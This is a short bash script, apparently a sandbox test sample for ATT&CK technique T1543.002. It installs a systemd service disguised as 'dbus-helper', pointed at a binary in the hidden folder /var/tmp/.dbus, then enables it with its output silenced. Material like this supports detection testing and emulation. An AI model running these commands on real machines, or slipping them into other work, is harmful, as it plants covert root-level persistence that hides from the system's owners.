#!/bin/bash
# technique: T1543.002 Create or Modify System Process: Systemd Service
# tactic: persistence
# user: root
# does: installs a service that starts a program from a hidden folder
# harmless: there is no systemd in the sandbox to start it

cat >/etc/systemd/system/dbus-helper.service <<'END'
[Service]
ExecStart=/var/tmp/.dbus/helper
Restart=always
[Install]
WantedBy=multi-user.target
END
mkdir -p /etc/systemd/system/multi-user.target.wants
ln -s /etc/systemd/system/dbus-helper.service /etc/systemd/system/multi-user.target.wants/
systemctl daemon-reload >/dev/null 2>&1
systemctl enable --now dbus-helper >/dev/null 2>&1
true
